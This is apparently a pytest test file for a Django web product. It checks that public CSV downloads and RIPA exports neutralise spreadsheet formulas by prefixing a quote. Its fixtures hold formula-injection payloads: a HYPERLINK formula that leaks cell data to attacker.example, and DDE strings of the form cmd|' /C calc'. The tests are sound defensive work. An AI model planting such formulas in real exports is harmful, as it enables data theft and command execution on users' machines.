"""Every CSV the product writes opens in a spreadsheet as data, never as a formula (issue 14, item 6).

Formula-like text (a published comment `=HYPERLINK(...)`, a title beginning with `@`, `+`, `-`,
a tab or a carriage return) is written with a single quote in front (`sro.core.csvsafe`).
The public downloads are found from the downloads page, so a new one is checked as soon as it
is listed there.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from sro.community.models import AgendaItem, PublicComment
from sro.community.services import comment_moderate, comment_submit
from sro.contracts.models import Contract
from sro.core.csvsafe import FORMULA_STARTS
from sro.incidents.contacts import ContactData, contact_record
from sro.incidents.ripa import ripa_parse
from sro.orgs.actors import actor_for
from sro.orgs.models import LawEnforcementAgency, School
from sro.public.downloads import DOWNLOADS

HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Read the contract")'
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def _dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)


def _seed_formulas() -> dict[str, str]:
    """Formula-like text in every kind of free text the public downloads carry; returns what was written."""
    item = AgendaItem.objects.filter(comments_open=True, meeting__date__gte=timezone.localdate()).first()
    assert item is not None
    comment = comment_submit(
        item=item, body=HYPERLINK, name="@SUM(1+1)", neighbourhood="+cmd|' /C calc'!A0", language="en",
        address="192.0.2.1",
    )  # fmt: skip
    assert comment is not None
    comment_moderate(actor=None, comment=comment, action="publish")
    contract = Contract.objects.order_by("pk").first()
    assert contract is not None
    Contract.objects.filter(pk=contract.pk).update(title="-2+3+cmd|' /C calc'!A0")
    AgendaItem.objects.filter(pk=item.pk).update(title="\t=1+1")
    LawEnforcementAgency.objects.filter(pk=contract.agency_id).update(name="\r=2+2")  # "'\n=2+2", quoted
    School.objects.filter(pk=contract.campuses.order_by("pk").first().pk).update(name="=3+3")  # type: ignore[union-attr]
    return {
        "comments": HYPERLINK,
        "contracts": "-2+3+cmd|' /C calc'!A0",
        "agenda": "\t=1+1",
        "campuses": "=3+3",
    }


def _download_links() -> list[str]:
    page = Client().get(reverse("public:downloads")).content.decode()
    return sorted(set(re.findall(r'href="([^"]+\.csv)"', page)))


def test_every_public_download_is_listed_on_the_downloads_page(site: dict[str, Any]) -> None:
    assert _download_links() == sorted(reverse("public:csv", args=[name]) for name in DOWNLOADS)


def test_no_public_download_holds_a_live_formula(site: dict[str, Any]) -> None:
    seeded = _seed_formulas()
    assert PublicComment.objects.filter(body=HYPERLINK, status="published").exists()
    files: dict[str, list[list[str]]] = {}
    for url in _download_links():
        r = Client().get(url)
        assert r.status_code == 200 and r["Content-Type"].startswith("text/csv"), url
        rows = list(csv.reader(io.StringIO(r.content.decode())))
        files[url.rsplit("/", 1)[1].removesuffix(".csv")] = rows
        live = [cell for row in rows[1:] for cell in row if _dangerous(cell)]
        assert live == [], (url, live)
    for name, text in seeded.items():
        cells = {cell for row in files[name][1:] for cell in row}
        assert "'" + text in cells, (name, text)
    comment = next(row for row in files["comments"] if "'" + HYPERLINK in row)
    assert comment[2:4] == ["'@SUM(1+1)", "'+cmd|' /C calc'!A0"]


def test_the_ripa_export_neutralises_text_and_still_reads_back(org: dict[str, Any], tmp_path: Any) -> None:
    officer = actor_for(org["users"]["officer.pspd"])
    school = org["schools"]["Palm Springs High"]
    day = timezone.localdate() - dt.timedelta(days=2)
    data = ContactData(
        occurred_at=dt.datetime.combine(day, dt.time(10), tzinfo=timezone.get_current_timezone()),
        duration_minutes=5, reason=2, race=[3], gender=1, age=15, results=[12],
    )  # fmt: skip
    contact, _ = contact_record(actor=officer, school=school, data=data)
    LawEnforcementAgency.objects.filter(pk=contact.agency_id).update(name='=HYPERLINK("x")')
    School.objects.filter(pk=school.pk).update(name="@school")
    out = tmp_path / "ripa.csv"
    call_command(
        "export", "ripa", "--agency", str(contact.agency_id), "--from", day.isoformat(), "--to", day.isoformat(),
        "--out", str(out), stderr=io.StringIO(),
    )  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == 1
    assert rows[0]["AGENCY_NAME"] == '\'=HYPERLINK("x")' and rows[0]["SCHOOL_NAME"] == "'@school"
    assert [c for c in rows[0].values() if _dangerous(c)] == []
    assert dict(ripa_parse(rows))[f"SRO{contact.pk}"] == ContactData.of(contact)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1 760 555 0100", "'+1 760 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\nx"),  # a carriage return would split the row: written as a quoted line break
        ("a\r\nb", "a\nb"),
        ("-5", "-5"),
        ("+1.5", "+1.5"),
        ("-2.5e3", "-2.5e3"),
        ("plain", "plain"),
        ("a=b", "a=b"),
    ],
)
def test_the_rule_cell_by_cell(cell: str, written: str) -> None:
    from sro.core.csvsafe import writer

    out = io.StringIO()
    writer(out, lineterminator="\n").writerow([cell, -5, 3])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [written, "-5", "3"]


def test_numbers_and_dates_are_kept_and_other_objects_are_written_as_neutralised_text() -> None:
    from decimal import Decimal

    from sro.core.csvsafe import writer

    class Named:
        def __str__(self) -> str:
            return "=cmd|' /C calc'!A0"

    out = io.StringIO()
    writer(out, lineterminator="\n").writerow([None, Decimal("-5.00"), -2.5, dt.date(2026, 1, 2), True, Named()])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [
        "",
        "-5.00",
        "-2.5",
        "2026-01-02",
        "True",
        "'=cmd|' /C calc'!A0",
    ]
